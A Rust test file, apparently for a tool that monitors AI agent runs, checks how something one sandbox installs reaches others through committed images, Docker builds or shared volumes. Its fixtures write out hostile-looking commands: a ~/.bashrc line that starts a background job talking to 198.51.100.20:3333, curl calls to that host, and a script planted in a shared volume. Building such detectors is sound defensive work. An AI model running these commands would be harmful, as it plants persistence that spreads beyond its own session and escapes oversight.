//! What other sandboxes get of what a step installs.

use super::*;
use crate::correlate::kit::{Laid, sandboxes};

const HOSTS: [&str; 4] = ["10.20.0.5", "10.20.0.6", "10.20.0.7", "10.20.0.8"];
const BEAT: &str = "echo './job -o 198.51.100.20:3333 &' >> ~/.bashrc";

/// Sandboxes of four runs: the first works, and the others have its volume, its image, another image, or nothing of it.
fn laid(volumes: &str, commands: &[&str]) -> Laid {
    let mut world = World::with_case(&sandboxes(&[volumes, volumes, "image = \"agent:7\"", "image = \"agent:8\""]));
    let transcript = world.episode("a1.jsonl", None);
    for command in commands {
        world.step(transcript, None, command);
    }
    for other in ["b1.jsonl", "c1.jsonl", "d1.jsonl"] {
        world.episode(other, None);
    }
    world.lay()
}

/// Through what each of the hosts gets what a step installs.
fn through(laid: &Laid, step: usize) -> Option<[Option<&str>; 4]> {
    let install = laid.acts[step].install.as_ref()?;
    Some(HOSTS.map(|host| install.reaches(Some(ip(host)))))
}

#[test]
fn an_image_takes_what_was_installed_before_it_to_those_who_start_from_it() {
    for volumes in ["", "volumes = [\"/mnt/shared\"]"] {
        let laid = laid(volumes, &["curl http://198.51.100.20:3333/x", BEAT, "docker commit c1 agent:7"]);
        assert_eq!(through(&laid, 0), None, "a call leaves nothing behind");
        assert_eq!(through(&laid, 1), Some([None, None, Some("image agent:7"), None]));
        assert_eq!(through(&laid, 2), None, "the image alone names no peer");
    }
    // What is installed after the image was made is not in it.
    let late = laid("", &["docker commit c1 agent:7", BEAT]);
    assert_eq!(through(&late, 1), Some([None; 4]));
}

#[test]
fn a_build_that_names_a_peer_installs_it_in_its_image() {
    let file = "cat > Dockerfile <<'E'\nRUN curl http://198.51.100.20:3333/x\nE";
    let laid = laid("", &[file, "docker build -t agent:7 ."]);
    assert_eq!(through(&laid, 1), Some([None, None, Some("image agent:7"), None]));
}

#[test]
fn a_volume_takes_what_names_something_to_those_who_have_it() {
    let shared = "volumes = [\"/mnt/shared\"]";
    let script = |path: &str| format!("printf './job -o 198.51.100.20:3333\\n' > {path}");
    let reached = Some("volume /mnt/shared");
    let found = laid(shared, &[&script("/mnt/shared/env/activate.sh")]);
    assert_eq!(through(&found, 0), Some([reached, reached, None, None]));
    assert!(found.acts[0].tokens().contains(&endpoint()) && found.acts[0].leaves_running());
    let install = found.acts[0].install.as_ref().unwrap();
    assert_eq!((install.reaches(None), install.by.as_str()), (None, "volume /mnt/shared"));
    for (command, why) in [
        (script("/mnt/sharedx/activate.sh"), "another directory"),
        (script("/tmp/activate.sh"), "no volume"),
        ("echo hello > /mnt/shared/notes.txt".to_owned(), "it names nothing"),
    ] {
        assert_eq!(through(&laid(shared, &[&command]), 0), None, "{why}");
    }
}
